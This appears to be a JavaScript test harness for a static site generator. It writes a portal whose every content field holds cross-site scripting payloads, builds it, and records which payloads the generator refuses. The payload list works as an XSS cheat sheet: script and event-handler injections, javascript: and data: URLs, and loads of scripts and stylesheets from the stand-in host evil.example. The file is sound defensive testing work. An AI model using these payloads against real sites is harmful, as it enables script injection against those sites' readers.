// A portal written by an attacker: every field of its content holds an attempt
// to run a script in its readers' browsers. In: a folder for the site's source
// and one for the built site. Out: what was built, and which attempts the
// generator refused, with the code of the finding.

import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('../..', import.meta.url));

/** What each attempt calls if it runs. The test defines it, and counts. */
const call = 'pwned()';

/** The attempts, each once; markup, breaks out of attributes, scripts, templates, addresses and styles. */
export const payloads = [
  `<script>${call}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</title><script>${call}</script>`, `</script><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<script/x>${call}</script>`, `<script type=module>${call}</script>`, `<svg><script>${call}</script></svg>`,
  `<svg/onload=${call}>`, `<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `<img/src/onerror=${call}>`, `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<body onload=${call}>`, `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}>`, `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`, `<details open ontoggle=${call}>`, `<marquee onstart=${call}>`, `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`, `<form action="javascript:${call}"><button>x</button></form>`, `<button formaction="javascript:${call}">x</button>`,
  `<isindex action="javascript:${call}">`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<style>@import "https://evil.example/x.css"</style>`, `<p style="background:url(javascript:${call})">x</p>`, `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<!--><img src=x onerror=${call}>-->`, `<![CDATA[<img src=x onerror=${call}>]]>`, `<?xml-stylesheet href="javascript:${call}"?>`,
  `"><script>${call}</script>`, `'><script>${call}</script>`, `" onmouseover="${call}" x="`, `' onmouseover='${call}' x='`, `\` onmouseover=\`${call}\``, `" autofocus onfocus=${call} x="`,
  `'-${call}-'`, `";${call};//`, `\\";${call};//`, `\${${call}}`, `{{${call}}}`, `{{constructor.constructor('${call}')()}}`, `{{.Title | html}}`, `<%= ${call} %>`, `]]><script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `&lt;img src=x onerror=${call}&gt;`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`, `<<script>${call}//<</script>`,
  `<a href="javascript:${call}">x</a>`, `[x](javascript:${call})`, `[x](<javascript:${call}>)`, `![x](x "onerror=${call}")`, `<javascript:${call}>`,
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java&#115;cript:${call}`, `javascript&colon;${call}`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `vbscript:${call}`, `//evil.example/x`, `https://good.example\\@evil.example/`, `https://user:${call}@evil.example/`, `https://evil.example/"onmouseover="${call}`, `blob:https://evil.example/x`,
  `https://good.example/?"><script>${call}</script>`, `\u202Ehttps://evil.example/`, `\u001b]8;;https://evil.example/\u0007x`, `\u0000<script>${call}</script>`,
];

const quoted = (text) => JSON.stringify(text).replaceAll('\u007f', '\\u007f');

/** Those that are text in any file; the others hold characters that the generator refuses wherever they stand. */
const printable = payloads.filter((p) => !/[\u0000-\u001f\u202a-\u202e]/.test(p));

/** The attempts in fours, and each unprintable one alone, for fields that have a page of their own. */
const groups = [
  ...Array.from({ length: Math.ceil(printable.length / 4) }, (_, i) => printable.slice(4 * i, 4 * i + 4)),
  ...payloads.filter((p) => !printable.includes(p)).map((p) => [p]),
];

/** A file of the site in lines; a line that is an attempt has those that are tried in its place when it is refused. */
class File {
  lines = [];
  add(...lines) {
    for (const line of lines) this.lines.push({ line });
    return this;
  }

  /** One line of the file, and the harmless one that stands in for it. */
  attempt(field, payload, line, instead) {
    if (!line.includes('\n')) this.lines.push({ line, rest: [{ line: instead }], field, payload });
    return this;
  }

  /** A field that stands once in a site: the attempts in turn until one is taken. */
  once(field, attempts, make, harmless) {
    const [first, ...rest] = attempts.map((payload) => ({ payload, line: make(quoted(payload)) }));
    this.lines.push({ ...first, rest: [...rest, { line: make(quoted(harmless)) }], field });
    return this;
  }

  text() { return `${this.lines.map(({ line }) => line).join('\n')}\n`; }
}

function corpus() {
  const files = new Map();
  const file = (name) => files.set(name, new File()).get(name);
  const all = printable.join(' ');
  const addresses = [all, `javascript:${call}`, `mailto:a"onmouseover="${call}@b.example`, `https://b.example/"><script>${call}</script>`, `https://b.example/'-${call}-'`];
  file('content/portal.yaml').add('base_url: ""', 'source: en', 'languages:')
    .once('language name', [all, printable[0]], (p) => `  - {tag: en, name: ${p}, dir: ltr}`, 'English').add('  - {tag: ar, name: العربية, dir: rtl}',
      'themes: [work]', 'collections:', '  - {key: plan}', '  - {key: guides}', '  - {key: pages, root: true, bare: true}')
    .once('report', addresses, (p) => `report: ${p}`, 'mailto:editors@portal.example').add('filings:')
    .once('icp', [all, `京ICP备12345678号-1<script>${call}</script>`, `<img src=x onerror=${call}>京ICP备12345678号`, `京ICP备12345678号" onmouseover="${call}`], (p) => `  icp: ${p}`, '京ICP备12345678号-1')
    .once('public_security', [all, `京公网安备 11010502030143号<script>${call}</script>`, `京公网安备 "onmouseover="${call}"号`], (p) => `  public_security: ${p}`, '京公网安备 11010502030143号');
  const units = file('content/units.yaml').add('units:');
  const facts = file('content/plan/facts.yaml').add('kind: document', 'themes: [work]', 'checked: 2026-11-20');
  const messages = file('locales/site.en.toml').add('[theme.work]').once('theme', [printable.slice(0, 4).join(' '), `" onmouseover="${call}" x="`], (p) => `name = ${p}`, 'Work').add('lead = "Papers."');
  const contacts = file('content/contacts.yaml').add('sources:', '  - {id: own, title: Own, lang: en}', 'contacts:');
  const phrases = file('content/phrases.yaml').add('by: machine', 'documents: [' + payloads.map((_, i) => `t${i}`).join(', ') + ']', 'phrases:');
  const terms = file('locales/terms.yaml').add('terms:');
  const sources = [], typed = [], changes = [];
  const plan = file('content/plan/en.md').add('---', 'title: Plan', 'summary: A plan.', '---', '');
  const said = []; // messages
  payloads.forEach((p, i) => {
    const harmless = `harmless ${i}`;
    sources.push(['source', p, `  - {id: s${i}, title: ${quoted(p)}, lang: en, publisher: ${quoted(p)}, number: ${quoted(p)}}`, `  - {id: s${i}, title: ${harmless}, lang: en}`]);
    sources.push(['source address', p, `  - {id: a${i}, title: Address, lang: en, url: ${quoted(p)}}`, `  - {id: a${i}, title: Address, lang: en}`]);
    typed.push(['fact name', p, `  n${i}: {type: name, lang: en, value: ${quoted(p)}}`, `  n${i}: {type: name, lang: en, value: ${harmless}}`]);
    typed.push(['fact address', p, `  d${i}: {type: address, value: ${quoted(p)}, latin: ${quoted(p)}}`, `  d${i}: {type: name, lang: en, value: ${harmless}}`]);
    typed.push(['fact url', p, `  w${i}: {type: url, value: ${quoted(p)}}`, `  w${i}: {type: name, lang: en, value: ${harmless}}`]);
    changes.push(['change', p, `  - {on: 2026-11-20, class: rule-changing, note: {en: ${quoted(p)}}}`, `  - {on: 2026-11-20, class: rule-changing, note: {en: ${harmless}}}`]);
    const contact = (text) => `  - {key: c${i}, phone: "110", emergency: ${i % 2 === 0}, say: ${text}, pinyin: ${text}, confidence: high, sources: [own], checked: 2026-11-20}`;
    contacts.attempt('contact', p, contact(quoted(p)), contact(harmless));
    contacts.attempt('contact address', p, `  - {key: w${i}, url: ${quoted(p)}, confidence: high, sources: [own], checked: 2026-11-20}`, `  - {key: w${i}, url: "https://example.org/", confidence: high, sources: [own], checked: 2026-11-20}`);
    phrases.attempt('phrase', p, `  - {key: f${i}, chinese: ${quoted(p)}, pinyin: ${quoted(p)}}`, `  - {key: f${i}, chinese: ${harmless}}`);
    terms.attempt('term', p, `  - {id: t${i}, chinese: ${quoted(p)}, pinyin: ${quoted(p)}, by: machine, en: {term: ${quoted(p)}}}`, `  - {id: t${i}, chinese: 字, en: {term: ${harmless}}}`);
    for (const key of [`contact.c${i}.name`, `contact.c${i}.for`, `contact.c${i}.say`, `phrase.f${i}`]) said.push([p, `${key} = ${quoted(p)}`, `${key} = "${harmless}"`]);
    for (const key of [`contact.w${i}.name`, `contact.w${i}.for`]) said.push([p, `${key} = ${quoted(p)}`, `${key} = "${harmless}"`]);
    plan.add(`:fact[n${i}] :fact[d${i}] :fact[w${i}] :cite[s${i}] :cite[a${i}]`, '');
  });
  groups.forEach((group, i) => {
    const harmless = `harmless ${i}`, joined = group.join(' ');
    units.attempt('unit name', joined, `  - {key: u${i}, kind: municipal, confirmed: true, name: ${quoted(joined)}, short: ${quoted(joined)}}`, `  - {key: u${i}, kind: municipal, confirmed: true, name: ${harmless}, short: ${harmless}}`);
    said.push([joined, `unit.u${i} = ${quoted(joined)}`, `unit.u${i} = "${harmless}"`]);
    plan.add(`:unit[u${i}]`, '');
    const page = file(`content/pages/p${i}/en.md`).add('---');
    page.attempt('title', joined, `title: ${quoted(joined)}`, `title: ${harmless}`).attempt('summary', joined, `summary: ${quoted(joined)}`, `summary: ${harmless}`).add('---', '');
    for (const p of group) {
      page.attempt('paragraph', p, p, harmless).add('').attempt('link address', p, `[link](${p})`, harmless).add('')
        .attempt('link address in brackets', p, `[link](<${p}>)`, harmless).add('').attempt('link text', p, `[${p}](https://example.org/)`, harmless).add('')
        .attempt('link title', p, `[link](https://example.org/ ${quoted(p)})`, harmless).add('').attempt('code', p, `\`\` ${p} \`\``, harmless).add('')
        .attempt('directive', p, `:fact[${p}]`, harmless).add('').attempt('table', p, `| ${p.replaceAll('|', '\\|')} | x |`, '| x | x |').add('| - | - |', '| x | x |', '')
        .attempt('language of code', p, `\`\`\`${p.replaceAll('`', '')}`, '```').add('code', '```', '').attempt('escaped', p, p.replace(/[<>[\]()&!`*_]/g, '\\$&'), harmless).add('');
    }
    group.forEach((p, n) => page.attempt('heading', p, `## ${p} {#heading-${n}}`, `## Heading {#heading-${n}}`).add('', `Words.[^${n}]`, ''));
    group.forEach((p, n) => page.attempt('footnote', p, `[^${n}]: ${p}`, `[^${n}]: Words.`).add(''));
  });
  const fill = (f, name, rows) => { f.add(`${name}:`); for (const [field, p, line, instead] of rows) f.attempt(field, p, line, instead); };
  fill(facts, 'sources', sources);
  fill(facts, 'facts', typed);
  fill(facts, 'changes', changes);
  const keyed = (row) => row[1].replace(/ = .*/s, '').split('.');
  for (const table of ['contact', 'phrase', 'unit']) {
    messages.add(`[${table}]`);
    for (const row of said.filter((r) => keyed(r)[0] === table)) messages.attempt('message', row[0], row[1].slice(table.length + 1), row[2].slice(table.length + 1));
  }
  const guide = file('content/guides/ask/en.md').add('---', 'title: Ask', 'summary: Ask.', '---', '', 'Words.', '', '## Which? {#which}', '');
  payloads.forEach((p, i) => guide.attempt('guide answer', p, `- [${p}](#r${i % 3})`, `- [harmless ${i}](#r${i % 3})`));
  for (const i of [0, 1, 2]) guide.add('').attempt('guide result', payloads[i + 39], `## ${payloads[i + 39]} {#r${i}}`, `## Result {#r${i}}`).add('', 'Words.');
  file('content/guides/ask/facts.yaml').add('kind: guide', 'checked: 2026-11-20');
  return files;
}

/**
 * Writes the portal to source and builds it into out. What the generator
 * refuses is taken out line by line until the rest is built.
 * An attempt that is several of the payloads is one of "attempts".
 * @returns {{attempts: number, refused: {field: string, payload: string, code: string}[]}}
 */
export function buildHostile(source, out) {
  rmSync(source, { recursive: true, force: true });
  rmSync(out, { recursive: true, force: true });
  const files = corpus();
  const polyport = path.join(path.dirname(out), 'polyport-for-hostile');
  execFileSync('go', ['build', '-o', polyport, './cmd/polyport'], { cwd: root, stdio: 'inherit' });
  const refused = [];
  const attempts = [...files.values()].reduce((n, f) => n + f.lines.filter((l) => l.field).length, 0);
  for (let round = 0; round < 12; round++) {
    for (const [name, file] of files) {
      mkdirSync(path.dirname(path.join(source, name)), { recursive: true });
      writeFileSync(path.join(source, name), file.text());
    }
    const run = spawnSync(polyport, ['build', '--site', source, '--out', out, '--as-of', '2026-11-23', '--format', 'json'], { maxBuffer: 1 << 28, encoding: 'utf8' });
    if (run.status === 0) return { attempts, refused };
    if (run.status !== 1) throw new Error(`exit code ${run.status}\n${run.stderr}`);
    const moved = new Set(); // one finding of a line is enough
    const errors = JSON.parse(run.stdout).filter(({ severity }) => severity === 'error');
    for (const { pos, code } of errors) {
      const row = files.get(pos.file)?.lines[(pos.line ?? 0) - 1];
      if (!row?.rest?.length || moved.has(row)) continue;
      moved.add(row);
      refused.push({ field: row.field, payload: row.payload, code });
      Object.assign(row, row.rest.shift());
    }
    if (moved.size === 0) throw new Error(`refused for more than what is hostile:\n${JSON.stringify(errors.slice(0, 5), null, 1)}`);
  }
  throw new Error('refused again and again');
}
